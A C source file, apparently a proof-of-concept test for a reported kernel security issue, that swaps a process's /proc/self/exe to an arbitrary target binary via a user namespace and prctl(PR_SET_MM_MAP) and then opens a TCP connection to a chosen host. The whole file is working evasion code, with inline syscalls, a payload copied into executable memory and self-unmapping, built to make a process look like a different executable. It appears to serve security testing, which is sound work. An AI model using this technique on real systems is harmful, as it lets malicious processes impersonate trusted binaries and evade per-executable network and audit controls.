// setexe: the attack of issue 13 item 1, as an unprivileged process would
// run it. It takes CAP_CHECKPOINT_RESTORE in a user namespace of its own
// (unshare(CLONE_NEWUSER)), unmaps its own executable (the kernel refuses
// to swap exe_file while the old one is mapped), swaps mm->exe_file for
// TARGET with prctl(PR_SET_MM, PR_SET_MM_MAP, {.exe_fd}), and connects to
// IP:PORT over TCP, in this process or (with "fork") in a child.
//
//   setexe TARGET|- IP PORT [fork]      ("-": no swap, the control)
//
// Exit status: 0 connected, 1 EPERM, 2 another connect error, 3 setup
// failed (stderr says where), 4 prctl refused.
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/prctl.h>
#include <netinet/in.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <unistd.h>

struct job {
	long ranges[32][2];
	long n;
	long swap;
	long fork_first;
	int status;
	struct prctl_mm_map map;
	struct sockaddr_in sa;
};

static inline __attribute__((always_inline)) long sc(long n, long a, long b, long c, long d, long e)
{
	register long r10 asm("r10") = d;
	register long r8 asm("r8") = e;
	long ret;
	asm volatile("syscall" : "=a"(ret) : "a"(n), "D"(a), "S"(b), "d"(c), "r"(r10), "r"(r8) : "rcx", "r11", "memory");
	return ret;
}

// swap_and_connect runs from an anonymous copy: it may touch only its argument and
// the stack once the executable is unmapped.
__attribute__((section("payload"), noinline, used)) static void swap_and_connect(struct job *j)
{
	for (long i = 0; i < j->n; i++)
		sc(SYS_munmap, j->ranges[i][0], j->ranges[i][1] - j->ranges[i][0], 0, 0, 0);
	if (j->swap && sc(SYS_prctl, PR_SET_MM, PR_SET_MM_MAP, (long)&j->map, sizeof(j->map), 0) < 0)
		sc(SYS_exit_group, 4, 0, 0, 0, 0);
	if (j->fork_first) {
		long pid = sc(SYS_fork, 0, 0, 0, 0, 0);
		if (pid > 0) {
			sc(SYS_wait4, pid, (long)&j->status, 0, 0, 0);
			sc(SYS_exit_group, (j->status >> 8) & 0xff, 0, 0, 0, 0);
		}
	}
	long fd = sc(SYS_socket, AF_INET, SOCK_STREAM, 0, 0, 0);
	long r = sc(SYS_connect, fd, (long)&j->sa, sizeof(j->sa), 0, 0);
	sc(SYS_exit_group, r == 0 ? 0 : r == -EPERM ? 1 : 2, 0, 0, 0, 0);
}

extern char __start_payload[], __stop_payload[];

static void die(const char *what)
{
	perror(what);
	exit(3);
}

int main(int argc, char **argv)
{
	if (argc < 4) {
		fprintf(stderr, "usage: setexe TARGET|- IP PORT [fork]\n");
		return 3;
	}
	char *region = mmap(NULL, 1 << 16, PROT_READ | PROT_WRITE | PROT_EXEC, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	if (region == MAP_FAILED)
		die("mmap");
	struct job *j = (struct job *)(region + (1 << 15));
	memset(j, 0, sizeof(*j));
	j->swap = strcmp(argv[1], "-") != 0;
	j->fork_first = argc > 4 && strcmp(argv[4], "fork") == 0;
	j->sa.sin_family = AF_INET;
	j->sa.sin_port = htons(atoi(argv[3]));
	if (inet_pton(AF_INET, argv[2], &j->sa.sin_addr) != 1)
		die("address");

	if (j->swap) {
		if (unshare(CLONE_NEWUSER) != 0)
			die("unshare(CLONE_NEWUSER)");
		int fd = open(argv[1], O_RDONLY | O_CLOEXEC);
		if (fd < 0)
			die("open target");
		// The map must restate the current layout: /proc/self/stat has it.
		char buf[4096];
		int sf = open("/proc/self/stat", O_RDONLY);
		ssize_t n = read(sf, buf, sizeof(buf) - 1);
		close(sf);
		if (n <= 0)
			die("read /proc/self/stat");
		buf[n] = 0;
		char *p = strrchr(buf, ')');
		unsigned long v[64] = {0};
		int field = 2; // p points at the end of field 2 (comm)
		for (p++; *p && field < 60;) {
			while (*p == ' ')
				p++;
			field++;
			v[field] = strtoul(p, NULL, 10);
			while (*p && *p != ' ')
				p++;
		}
		j->map.start_code = v[26];
		j->map.end_code = v[27];
		j->map.start_stack = v[28];
		j->map.start_data = v[45];
		j->map.end_data = v[46];
		j->map.start_brk = v[47];
		j->map.arg_start = v[48];
		j->map.arg_end = v[49];
		j->map.env_start = v[50];
		j->map.env_end = v[51];
		j->map.brk = syscall(SYS_brk, 0);
		j->map.exe_fd = fd;
		if (j->map.brk < j->map.start_brk)
			j->map.brk = j->map.start_brk;

		char self[4096];
		ssize_t sl = readlink("/proc/self/exe", self, sizeof(self) - 1);
		if (sl <= 0)
			die("readlink /proc/self/exe");
		self[sl] = 0;
		FILE *maps = fopen("/proc/self/maps", "r");
		if (!maps)
			die("open /proc/self/maps");
		char line[8192];
		while (fgets(line, sizeof(line), maps) && j->n < 32) {
			unsigned long lo, hi;
			char path[4096] = "";
			if (sscanf(line, "%lx-%lx %*s %*s %*s %*s %4095s", &lo, &hi, path) >= 2 && strcmp(path, self) == 0) {
				j->ranges[j->n][0] = lo;
				j->ranges[j->n][1] = hi;
				j->n++;
			}
		}
		fclose(maps);
		if (j->n == 0)
			die("no mapping of the executable found");
	}
	memcpy(region, __start_payload, __stop_payload - __start_payload);
	((void (*)(struct job *))region)(j);
	return 3;
}
